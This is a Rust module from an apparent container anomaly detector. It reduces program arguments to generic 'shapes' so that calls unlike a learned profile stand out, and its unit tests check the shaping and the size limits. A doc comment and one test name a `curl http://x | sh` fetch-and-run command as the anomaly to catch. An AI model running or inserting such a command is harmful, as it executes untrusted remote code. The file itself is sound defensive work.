//! Argument shapes: the argv a program ran with, with what differs from
//! run to run by nature (numbers, addresses, ids, temporary names) made
//! generic, so a profile can hold how each program is called and a call of
//! another shape (`sh -c 'curl ... | sh'` where only `sh -c /entrypoint`
//! ran) stands out. Kept per program and bounded; past the bound a program
//! allows any arguments.

use std::collections::{BTreeMap, BTreeSet};
use std::net::{IpAddr, SocketAddr};

use imprint_crd::profile::ExecArguments;

use crate::normalize::normalize_path;

/// Shapes kept per program; one more and the program allows any arguments.
pub const SHAPES_PER_PROGRAM: usize = 16;
/// Bytes of shapes kept per container; past it the programs with the most
/// bytes allow any arguments until the rest fit.
pub const SHAPE_BYTES: usize = 16 * 1024;

/// The shape of an argv (`argv[0]` included).
pub fn shape(args: &[String]) -> Vec<String> {
    args.iter().map(|a| shape_token(a)).collect()
}

fn shape_token(arg: &str) -> String {
    if is_number(arg) {
        return "<num>".into();
    }
    if arg.parse::<IpAddr>().is_ok() {
        return "<ip>".into();
    }
    if arg.parse::<SocketAddr>().is_ok() {
        return "<ip>:<num>".into();
    }
    if is_id(arg) {
        return "<id>".into();
    }
    if arg.starts_with('/') && !arg.contains(char::is_whitespace) {
        return normalize_path(arg);
    }
    // `--option=value`, `KEY=value`: the value is shaped.
    if let Some((name, value)) = arg.split_once('=')
        && !name.is_empty()
        && !name.contains(char::is_whitespace)
        && !value.is_empty()
    {
        return format!("{name}={}", shape_token(value));
    }
    arg.to_string()
}

fn is_number(arg: &str) -> bool {
    let digits = arg.strip_prefix(['-', '+']).unwrap_or(arg);
    if let Some(hex) = digits.strip_prefix("0x") {
        return !hex.is_empty() && hex.bytes().all(|b| b.is_ascii_hexdigit());
    }
    !digits.is_empty()
        && digits.bytes().any(|b| b.is_ascii_digit())
        && digits.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && digits.bytes().filter(|b| *b == b'.').count() <= 1
}

/// Sixteen or more hexadecimal digits (a container id, a digest), or a
/// UUID.
fn is_id(arg: &str) -> bool {
    let hex = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_hexdigit());
    let parts: Vec<&str> = arg.split('-').collect();
    let uuid = parts.iter().map(|p| p.len()).eq([8, 4, 4, 4, 12]) && parts.iter().all(|p| hex(p));
    uuid || (arg.len() >= 16 && hex(arg))
}

/// How an anomaly or `spec.accept` names arguments: what they are of, a
/// space, their list as JSON. A program's shape, `PATH ["arg0","arg1"]`,
/// or a syscall's call, `socket [{"index":0,"value":17,"mask":4294967295}]`.
pub fn value<T: serde::Serialize + ?Sized>(of: &str, arguments: &T) -> String {
    format!(
        "{of} {}",
        serde_json::to_string(arguments).unwrap_or_else(|_| "[]".into())
    )
}

/// What a [`value`] names, and its arguments.
pub fn parse_value<T: serde::de::DeserializeOwned>(value: &str) -> Option<(String, Vec<T>)> {
    let at = value.find(" [")?;
    let arguments: Vec<T> = serde_json::from_str(&value[at + 1..]).ok()?;
    Some((value[..at].to_string(), arguments))
}

/// What one program is allowed.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Allowed {
    Any,
    Shapes(BTreeSet<Vec<String>>),
}

/// The argument shapes of a container's programs, bounded as the
/// constants say.
#[derive(Clone, Debug, Default)]
pub struct ArgumentShapes {
    programs: BTreeMap<String, Allowed>,
    bytes: usize,
}

fn bytes_of(shape: &[String]) -> usize {
    shape.iter().map(|a| a.len() + 1).sum()
}

impl ArgumentShapes {
    /// Adds one execution; an empty argv (a report that had its arguments
    /// cut) allows any arguments, since what ran is unknown.
    pub fn add(&mut self, path: &str, args: &[String]) {
        if args.is_empty() {
            self.allow_any(path);
            return;
        }
        self.add_shape(path, shape(args));
    }

    /// Adds one shape as it is (already shaped).
    pub fn add_shape(&mut self, path: &str, shape: Vec<String>) {
        let allowed = self
            .programs
            .entry(path.to_string())
            .or_insert_with(|| Allowed::Shapes(BTreeSet::new()));
        let Allowed::Shapes(shapes) = allowed else {
            return;
        };
        let bytes = bytes_of(&shape);
        if shapes.insert(shape) {
            self.bytes += bytes;
        }
        if shapes.len() > SHAPES_PER_PROGRAM {
            self.allow_any(path);
        }
        while self.bytes > SHAPE_BYTES {
            let Some(largest) = self
                .programs
                .iter()
                .filter_map(|(p, a)| match a {
                    Allowed::Shapes(s) => Some((s.iter().map(|s| bytes_of(s)).sum::<usize>(), p)),
                    Allowed::Any => None,
                })
                .max()
                .map(|(_, p)| p.clone())
            else {
                break;
            };
            self.allow_any(&largest);
        }
    }

    /// `path` runs with any arguments.
    pub fn allow_any(&mut self, path: &str) {
        if let Some(Allowed::Shapes(shapes)) = self.programs.get(path) {
            self.bytes -= shapes.iter().map(|s| bytes_of(s)).sum::<usize>();
        }
        self.programs.insert(path.to_string(), Allowed::Any);
    }

    /// Whether `path` ran with arguments of `args`' shape (or allows any);
    /// `None` when the program never ran.
    pub fn allows(&self, path: &str, args: &[String]) -> Option<bool> {
        match self.programs.get(path)? {
            Allowed::Any => Some(true),
            Allowed::Shapes(shapes) => Some(shapes.contains(&shape(args))),
        }
    }

    /// The shapes of a profile's container: `exec_arguments`, and any
    /// arguments for the programs of `executables` it does not list.
    pub fn from_profile(executables: &[String], listed: &[ExecArguments]) -> ArgumentShapes {
        let mut shapes = ArgumentShapes::default();
        shapes.add_profile(executables, listed);
        shapes
    }

    /// Adds the shapes of a profile's container (as [`Self::from_profile`]
    /// reads them) to these.
    pub fn add_profile(&mut self, executables: &[String], listed: &[ExecArguments]) {
        let shapes = self;
        for entry in listed {
            if entry.any {
                shapes.allow_any(&entry.path);
            }
            for shape in &entry.shapes {
                shapes.add_shape(&entry.path, shape.clone());
            }
        }
        for path in executables {
            if !listed.iter().any(|entry| entry.path == *path) {
                shapes.allow_any(path);
            }
        }
    }

    /// As a profile lists them, by path.
    pub fn to_profile(&self) -> Vec<ExecArguments> {
        self.programs
            .iter()
            .map(|(path, allowed)| match allowed {
                Allowed::Any => ExecArguments {
                    path: path.clone(),
                    any: true,
                    shapes: Vec::new(),
                },
                Allowed::Shapes(shapes) => ExecArguments {
                    path: path.clone(),
                    any: false,
                    shapes: shapes.iter().cloned().collect(),
                },
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(args: &[&str]) -> Vec<String> {
        args.iter().map(|a| a.to_string()).collect()
    }

    #[test]
    fn what_varies_by_nature_is_made_generic() {
        let shaped = shape(&argv(&[
            "worker",
            "--port=8080",
            "-n",
            "12",
            "10.0.0.7",
            "[fd00::1]:53",
            "/proc/4242/status",
            "/tmp/build-aZ9kQ2x",
            "0123456789abcdef0123",
            "123e4567-e89b-12d3-a456-426614174000",
            "PATH=/usr/bin",
            "-c",
            "echo 1",
        ]));
        assert_eq!(
            shaped,
            argv(&[
                "worker",
                "--port=<num>",
                "-n",
                "<num>",
                "<ip>",
                "<ip>:<num>",
                "/proc/*/status",
                "/tmp/build-*",
                "<id>",
                "<id>",
                "PATH=/usr/bin",
                "-c",
                "echo 1",
            ])
        );
        assert_eq!(
            shape(&argv(&["sleep", "5"])),
            shape(&argv(&["sleep", "60"]))
        );
        assert_ne!(
            shape(&argv(&["sh", "-c", "/entrypoint.sh"])),
            shape(&argv(&["sh", "-c", "curl http://x | sh"]))
        );
        assert_eq!(shape(&argv(&["v1.2"])), argv(&["v1.2"]), "not a number");
    }

    #[test]
    fn values_name_and_parse_back() {
        let v = value("/bin/sh", &argv(&["sh", "-c", "a [b] \"c\""]));
        assert_eq!(v, r#"/bin/sh ["sh","-c","a [b] \"c\""]"#);
        assert_eq!(
            parse_value(&v),
            Some(("/bin/sh".into(), argv(&["sh", "-c", "a [b] \"c\""])))
        );
        assert_eq!(parse_value::<String>("/bin/sh"), None);
    }

    #[test]
    fn shapes_are_bounded_per_program_and_in_bytes() {
        let mut s = ArgumentShapes::default();
        s.add("/bin/sh", &argv(&["sh", "-c", "a"]));
        assert_eq!(s.allows("/bin/sh", &argv(&["sh", "-c", "a"])), Some(true));
        assert_eq!(s.allows("/bin/sh", &argv(&["sh", "-c", "b"])), Some(false));
        assert_eq!(s.allows("/bin/ls", &argv(&["ls"])), None);
        for i in 0..SHAPES_PER_PROGRAM {
            s.add("/bin/echo", &argv(&["echo", &format!("w{i}")]));
        }
        assert_eq!(s.allows("/bin/echo", &argv(&["echo", "x"])), Some(false));
        s.add("/bin/echo", &argv(&["echo", "one more"]));
        assert_eq!(s.allows("/bin/echo", &argv(&["echo", "x"])), Some(true));
        // Bytes: one long-shaped program gives way, the small one stays.
        for i in 0..SHAPES_PER_PROGRAM {
            s.add("/bin/big", &argv(&["big", &format!("{i:x>1100}")]));
        }
        assert_eq!(s.allows("/bin/big", &argv(&["big", "y"])), Some(true));
        assert_eq!(s.allows("/bin/sh", &argv(&["sh", "-c", "b"])), Some(false));
        assert!(s.bytes <= SHAPE_BYTES);
        // A cut argv: unknown, so any.
        s.add("/bin/sh", &[]);
        assert_eq!(s.allows("/bin/sh", &argv(&["sh", "-c", "b"])), Some(true));
    }

    #[test]
    fn a_profile_round_trips_and_unlisted_programs_allow_any() {
        let mut s = ArgumentShapes::default();
        s.add("/bin/sh", &argv(&["sh", "-c", "a"]));
        s.allow_any("/bin/ls");
        let listed = s.to_profile();
        let back = ArgumentShapes::from_profile(&argv(&["/bin/sh", "/bin/cat"]), &listed);
        assert_eq!(back.to_profile().len(), 3);
        assert_eq!(
            back.allows("/bin/sh", &argv(&["sh", "-c", "b"])),
            Some(false)
        );
        assert_eq!(back.allows("/bin/cat", &argv(&["cat", "x"])), Some(true));
        assert_eq!(back.allows("/bin/ls", &argv(&["ls", "-l"])), Some(true));
    }
}
